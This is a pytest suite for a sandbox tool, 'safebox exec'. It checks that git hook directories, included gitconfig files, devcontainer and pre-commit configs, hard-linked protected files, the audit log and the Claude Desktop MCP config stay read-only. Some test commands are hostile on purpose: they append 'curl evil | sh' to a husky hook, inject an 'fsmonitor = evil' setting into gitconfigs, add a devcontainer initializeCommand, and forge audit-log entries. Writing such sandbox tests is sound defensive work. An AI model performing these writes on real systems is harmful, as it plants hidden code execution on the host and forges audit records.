"""More files that run code on the host later (issue 11 item 11), through
the real ``safebox exec``: hooks directories named by ``core.hooksPath``,
files named by ``[include]``/``[includeIf]``, ``.devcontainer/``,
``.pre-commit-config.yaml``, protected files with a second name (hard
link), and the ``--audit-log`` file.

Each write attempt inside fails with EROFS (bubblewrap's read-only re-bind;
under the helper alone protected files are documented as not protected,
except safebox's own run files, which Landlock excludes: EACCES). Each test
has a control in the same run or beside it: a neighbouring path that is not
protected takes the same write, or the same write lands when the config does
not name the path.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from sbx import BOTH, BWRAP_ONLY, HELPER_ONLY, FakeHome

MOUNT_MODES = [BOTH, BWRAP_ONLY]
ALL_MODES = [BOTH, BWRAP_ONLY, HELPER_ONLY]
WRITE_DENIED = {BOTH: "Read-only file system", BWRAP_ONLY: "Read-only file system", HELPER_ONLY: "Permission denied"}


def _set_repo_config(home: FakeHome, text: str) -> None:
    cfg = home.work / ".git" / "config"
    cfg.write_text(cfg.read_text() + text)


def _hooks_dir(home: FakeHome, rel: str) -> Path:
    d = home.work / rel
    d.mkdir(parents=True)
    (d / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    return d


# ------------------------------------------------------------ core.hooksPath

@pytest.mark.parametrize("mode", MOUNT_MODES)
@pytest.mark.parametrize("absolute", [False, True])
def test_the_hooks_dir_named_by_core_hookspath_in_the_repo_config_is_read_only(fresh_home: FakeHome,
                                                                                mode: str, absolute: bool) -> None:
    hooks = _hooks_dir(fresh_home, "tools/hooks")
    _set_repo_config(fresh_home, f"[core]\n\thooksPath = {hooks if absolute else 'tools/hooks'}\n")
    r = fresh_home.run(["sh", "-c", "echo ok > tools/notes; echo evil > tools/hooks/post-checkout; "
                                    "echo evil >> tools/hooks/pre-commit"], mode=mode)
    assert (fresh_home.work / "tools" / "notes").read_text() == "ok\n"  # control: its parent is writable
    assert "tools/hooks/post-checkout: Read-only file system" in r.stderr, r.stderr
    assert "tools/hooks/pre-commit: Read-only file system" in r.stderr, r.stderr
    assert not (hooks / "post-checkout").exists()
    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_control_the_same_directory_is_writable_when_no_config_names_it(fresh_home: FakeHome, mode: str) -> None:
    hooks = _hooks_dir(fresh_home, "tools/hooks")
    r = fresh_home.run(["sh", "-c", "echo evil > tools/hooks/post-checkout"], mode=mode)
    assert r.returncode == 0, r.stderr
    assert (hooks / "post-checkout").read_text() == "evil\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
@pytest.mark.parametrize("value", ["~/githooks", ".githooks"])
def test_the_hooks_dir_named_by_core_hookspath_in_the_global_gitconfig_is_read_only(fresh_home: FakeHome,
                                                                                    mode: str, value: str) -> None:
    # An absolute (~) value names one directory, here writable because the
    # whole home is; a relative one is taken in every repository's work tree.
    (fresh_home.root / ".gitconfig").write_text(f"[core]\n\thooksPath = {value}\n")
    hooks = fresh_home.root / "githooks" if value.startswith("~") else fresh_home.work / ".githooks"
    hooks.mkdir()
    r = fresh_home.run(["sh", "-c", f"echo ok > {hooks.parent}/notes; echo evil > {hooks}/pre-push"],
                       mode=mode, opts=["--allow-write", "~"])
    assert (hooks.parent / "notes").read_text() == "ok\n"  # control
    assert f"{hooks}/pre-push: Read-only file system" in r.stderr, r.stderr
    assert not (hooks / "pre-push").exists()


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_husky_scripts_one_level_above_its_hooks_path_are_read_only(fresh_home: FakeHome, mode: str) -> None:
    # husky sets core.hooksPath to DIR/_; the stubs there run DIR/<hook>.
    # A custom DIR (not named .husky) is protected through the config alone.
    _hooks_dir(fresh_home, "config/husky/_")
    (fresh_home.work / "config" / "husky" / "pre-commit").write_text("npm test\n")
    _set_repo_config(fresh_home, "[core]\n\thooksPath = config/husky/_\n")
    r = fresh_home.run(["sh", "-c", "echo ok > config/notes; echo 'curl evil | sh' >> config/husky/pre-commit"],
                       mode=mode)
    assert (fresh_home.work / "config" / "notes").read_text() == "ok\n"  # control
    assert "config/husky/pre-commit: Read-only file system" in r.stderr, r.stderr
    assert (fresh_home.work / "config" / "husky" / "pre-commit").read_text() == "npm test\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_hooks_dir_named_in_the_config_of_the_repo_enclosing_the_work_dir_is_read_only(fresh_home: FakeHome,
                                                                                       mode: str) -> None:
    # A monorepo: safebox runs in frontend/, the repository (and its config,
    # outside the write root) is above it, and core.hooksPath points back in.
    front = fresh_home.work / "frontend"
    hooks = _hooks_dir(fresh_home, "frontend/.githooks")
    _set_repo_config(fresh_home, "[core]\n\thooksPath = frontend/.githooks\n")
    r = fresh_home.run(["sh", "-c", "echo ok > notes; echo evil > .githooks/pre-commit"], mode=mode, cwd=front)
    assert (front / "notes").read_text() == "ok\n"  # control
    assert ".githooks/pre-commit: Read-only file system" in r.stderr, r.stderr
    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
@pytest.mark.parametrize("layout", ["linked-worktree", "symlinked-git-dir"])
def test_a_relative_hooks_path_is_taken_in_the_work_tree_a_git_file_or_link_belongs_to(fresh_home: FakeHome,
                                                                                     mode: str, layout: str) -> None:
    # The config lives with the git dir; the hooks run at the top of the work
    # tree, which is where the `.git` file or link is, not where the config is.
    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}
    if layout == "linked-worktree":
        import subprocess

        work = fresh_home.work / "src-repo"
        for argv in (["git", "init", "-q", str(work)], ["git", "-C", str(work), "commit", "-q", "--allow-empty", "-m", "x"],
                     ["git", "-C", str(work), "worktree", "add", "-q", str(fresh_home.work / "wt")],
                     ["git", "-C", str(work), "config", "core.hooksPath", ".githooks"]):
            subprocess.run(argv, check=True, env={**fresh_home.env(), **env}, capture_output=True)
        tree = fresh_home.work / "wt"
    else:
        gitdir = fresh_home.work / "gitdirs" / "lib.git"
        for d in ("hooks", "objects", "refs"):
            (gitdir / d).mkdir(parents=True)
        (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
        (gitdir / "config").write_text("[core]\n\thooksPath = .githooks\n")
        tree = fresh_home.work / "lib"
        tree.mkdir()
        (tree / ".git").symlink_to("../gitdirs/lib.git")
    (tree / ".githooks").mkdir()
    r = fresh_home.run(["sh", "-c", f"echo ok > {tree}/notes; echo evil > {tree}/.githooks/pre-commit"], mode=mode)
    assert (tree / "notes").read_text() == "ok\n"  # control
    assert f"{tree}/.githooks/pre-commit: Read-only file system" in r.stderr, r.stderr
    assert not (tree / ".githooks" / "pre-commit").exists()


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_hooks_dir_that_does_not_exist_yet_is_quarantined_when_the_command_creates_it(fresh_home: FakeHome,
                                                                                       mode: str) -> None:
    _set_repo_config(fresh_home, "[core]\n\thooksPath = .githooks\n")
    hooks = fresh_home.work / ".githooks"
    r = fresh_home.run(["sh", "-c", "mkdir .githooks && echo evil > .githooks/pre-commit && echo ok > notes"],
                       mode=mode)
    assert r.returncode == 0, r.stderr
    assert (fresh_home.work / "notes").read_text() == "ok\n"  # control: an ordinary new file stays
    assert not hooks.exists()
    assert f"the command created protected file {hooks}; moved it to" in r.stderr, r.stderr


def test_a_hooks_path_that_holds_the_work_dir_is_a_refusal(fresh_home: FakeHome) -> None:
    control = fresh_home.run(["true"])
    assert control.returncode == 0, control.stderr
    _set_repo_config(fresh_home, "[core]\n\thooksPath = .\n")
    r = fresh_home.run(["true"])
    assert r.returncode == 125
    assert r.stderr.startswith(f"safebox: git's core.hooksPath names {fresh_home.work}, which holds the write root "
                               f"{fresh_home.work}: the command could plant hooks"), r.stderr


# ------------------------------------------------------- [include] and [includeIf]

@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_file_included_by_the_global_gitconfig_is_read_only(fresh_home: FakeHome, mode: str) -> None:
    local = fresh_home.root / ".gitconfig.local"
    local.write_text("[user]\n\tname = me\n")
    (fresh_home.root / ".gitconfig").write_text("[include]\n\tpath = ~/.gitconfig.local\n")
    r = fresh_home.run(["sh", "-c", f"echo ok > {fresh_home.root}/notes; "
                                    f"printf '[core]\\n\\tfsmonitor = evil\\n' >> {local}"],
                       mode=mode, opts=["--allow-write", "~"])
    assert (fresh_home.root / "notes").read_text() == "ok\n"  # control
    assert f"{local}: Read-only file system" in r.stderr, r.stderr
    assert local.read_text() == "[user]\n\tname = me\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_file_included_by_the_repo_config_and_the_files_it_includes_are_read_only(fresh_home: FakeHome,
                                                                                   mode: str) -> None:
    # Relative include paths are taken from the including file's directory.
    shared = fresh_home.work / "gitconfig-shared"
    shared.write_text('[includeIf "onbranch:main"]\n\tpath = gitconfig-main\n')
    (fresh_home.work / "gitconfig-main").write_text("[user]\n\tname = me\n")
    _set_repo_config(fresh_home, "[include]\n\tpath = ../gitconfig-shared\n")
    r = fresh_home.run(["sh", "-c", "echo ok > notes; echo '[core] fsmonitor = evil' >> gitconfig-shared; "
                                    "echo '[core] fsmonitor = evil' >> gitconfig-main"], mode=mode)
    assert (fresh_home.work / "notes").read_text() == "ok\n"  # control
    assert "gitconfig-shared: Read-only file system" in r.stderr, r.stderr
    assert "gitconfig-main: Read-only file system" in r.stderr, r.stderr
    assert "evil" not in shared.read_text() + (fresh_home.work / "gitconfig-main").read_text()


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_an_included_file_that_does_not_exist_yet_is_quarantined_when_the_command_creates_it(fresh_home: FakeHome,
                                                                                           mode: str) -> None:
    local = fresh_home.root / ".gitconfig.local"
    (fresh_home.root / ".gitconfig").write_text('[includeIf "gitdir:~/"]\n\tpath = .gitconfig.local\n')
    r = fresh_home.run(["sh", "-c", f"printf '[core]\\n\\tfsmonitor = evil\\n' > {local}; "
                                    f"echo ok > {fresh_home.root}/notes"], mode=mode, opts=["--allow-write", "~"])
    assert r.returncode == 0, r.stderr
    assert (fresh_home.root / "notes").read_text() == "ok\n"  # control: an ordinary new file stays
    assert not local.exists()
    assert f"the command created protected file {local}; moved it to" in r.stderr, r.stderr


# ------------------------------------------------- .devcontainer, .pre-commit-config.yaml

@pytest.mark.parametrize("mode", MOUNT_MODES)
@pytest.mark.parametrize("rel", [".devcontainer/devcontainer.json", ".pre-commit-config.yaml",
                                 "sub/.devcontainer/devcontainer.json", "sub/.pre-commit-config.yaml"])
def test_devcontainer_and_pre_commit_configs_are_read_only(fresh_home: FakeHome, mode: str, rel: str) -> None:
    path = fresh_home.work / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("{}\n")
    neighbour = path.parent.parent / "notes" if ".devcontainer" in rel else path.parent / "notes.yaml"
    r = fresh_home.run(["sh", "-c", f"echo ok > {neighbour}; echo evil >> {path}"], mode=mode)
    assert neighbour.read_text() == "ok\n"  # control
    assert f"{rel}: Read-only file system" in r.stderr, r.stderr
    assert path.read_text() == "{}\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_new_file_in_an_existing_devcontainer_dir_fails(fresh_home: FakeHome, mode: str) -> None:
    (fresh_home.work / ".devcontainer").mkdir()
    r = fresh_home.run(["sh", "-c", "echo '{\"initializeCommand\": \"evil\"}' > .devcontainer/devcontainer.json"],
                       mode=mode)
    assert ".devcontainer/devcontainer.json: Read-only file system" in r.stderr, r.stderr
    assert not (fresh_home.work / ".devcontainer" / "devcontainer.json").exists()


# ---------------------------------------------------------------- hard links

@pytest.mark.parametrize("mode", ALL_MODES)
@pytest.mark.parametrize("case", ["bashrc", "hook"])
def test_a_protected_file_with_a_second_name_is_a_refusal(fresh_home: FakeHome, mode: str, case: str) -> None:
    if case == "bashrc":  # a dotfiles repository hard-linked into the home
        protected, other = fresh_home.root / ".bashrc", fresh_home.root / "dotfiles" / "bashrc"
        opts = ["--allow-write", "~"]
    else:  # a hook shared between repositories with ln
        protected, other = fresh_home.work / ".git" / "hooks" / "pre-commit", fresh_home.work / "shared-hook"
        protected.write_text("#!/bin/sh\nexit 0\n")
        opts = []
    other.parent.mkdir(exist_ok=True)
    before = protected.read_text()
    os.link(protected, other)
    r = fresh_home.run(["sh", "-c", f"echo evil >> {other}"], mode=mode, opts=opts)
    assert r.returncode == 125
    assert r.stderr.startswith(f"safebox: protected file {protected} has 2 hard links: the command could rewrite it "
                               "through another name\nhint: list the other names with "
                               f"`find / -xdev -samefile {protected}`"), r.stderr
    assert protected.read_text() == before

    # Control: the same layout with a copy instead of a second name runs, and
    # the write lands on the copy only.
    other.unlink()
    other.write_text(before)
    r = fresh_home.run(["sh", "-c", f"echo ok >> {other}"], mode=mode, opts=opts)
    assert r.returncode == 0, r.stderr
    assert other.read_text() == before + "ok\n" and protected.read_text() == before


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_repository_made_with_git_clone_local_runs(fresh_home: FakeHome, mode: str) -> None:
    # Normal work: git hard-links objects (never a protected path) between clones.
    import subprocess

    src = fresh_home.root / "src-repo"
    env = {**fresh_home.env(), "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@b"}
    for argv in (["git", "init", "-q", str(src)], ["git", "-C", str(src), "commit", "-q", "--allow-empty", "-m", "x"],
                 ["git", "clone", "-q", "--local", str(src), str(fresh_home.work / "clone")]):
        subprocess.run(argv, check=True, env=env, capture_output=True)
    objects = [p for p in (fresh_home.work / "clone" / ".git" / "objects").rglob("*") if p.is_file()]
    assert any(p.stat().st_nlink > 1 for p in objects)  # the precondition: objects are hard links
    r = fresh_home.run(["git", "-C", "clone", "log", "--oneline"], mode=mode, env=env)
    assert r.returncode == 0, r.stderr


# ---------------------------------------------------------------- --audit-log

@pytest.mark.parametrize("mode", ALL_MODES)
def test_the_audit_log_in_the_work_dir_cannot_be_forged_by_the_command(fresh_home: FakeHome, mode: str) -> None:
    log = fresh_home.work / "audit.jsonl"
    forged = json.dumps({"event": "stop", "exit": 0})
    r = fresh_home.run(["sh", "-c", f"echo ok > src/notes; echo '{forged}' >> audit.jsonl; : > audit.jsonl"],
                       mode=mode, opts=["--audit-log", "audit.jsonl"])
    assert (fresh_home.work / "src" / "notes").read_text() == "ok\n"  # control: the work dir is writable
    assert f"audit.jsonl: {WRITE_DENIED[mode]}" in r.stderr, r.stderr
    events = [json.loads(line) for line in log.read_text().splitlines()]
    # safebox's own lines, nothing of the command's: its two refused writes
    # are reported by the violations feed (docs/violations.md).
    # (Without the helper nothing is observed.)
    if mode == BWRAP_ONLY:
        assert [e["event"] for e in events] == ["start", "stop"]
        return
    assert [e["event"] for e in events] == ["start", "denied", "denied", "stop"]
    assert {(e["path"], e["rule"]) for e in events[1:3]} == {(str(log), "self-protection")}


def test_an_audit_log_with_a_second_name_in_the_work_dir_is_a_refusal(fresh_home: FakeHome) -> None:
    log = fresh_home.work / "audit.jsonl"
    log.write_text("")
    os.link(log, fresh_home.work / "innocent.txt")
    r = fresh_home.run(["sh", "-c", "echo forged >> innocent.txt"], opts=["--audit-log", str(log)])
    assert r.returncode == 125
    # Refused before the run, by hostio (the log must be a file of its own).
    assert r.stderr.startswith(f"safebox: cannot open audit log {log}: has 2 hard links; safebox will not use a "
                               "file linked elsewhere"), r.stderr
    assert "forged" not in log.read_text()


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_claude_desktops_mcp_servers_stay_read_only_with_the_config_dir_writable(fresh_home: FakeHome,
                                                                               mode: str) -> None:
    # claude_desktop_config.json's mcpServers are commands Claude Desktop
    # starts on the host (docs/agents.md). Before: the append landed.
    cfg = fresh_home.root / ".config" / "Claude" / "claude_desktop_config.json"
    cfg.parent.mkdir(parents=True)
    cfg.write_text('{"mcpServers": {}}\n')
    other = fresh_home.root / ".config" / "other.json"
    r = fresh_home.run(["sh", "-c", f"echo ok > {other}; echo evil >> {cfg}"], mode=mode,
                       opts=["--allow-write", "~/.config"])
    assert other.read_text() == "ok\n"  # control: the rest of ~/.config is writable
    assert r.returncode != 0 and f"{cfg}: {WRITE_DENIED[mode]}" in r.stderr, r.stderr
    assert cfg.read_text() == '{"mcpServers": {}}\n'
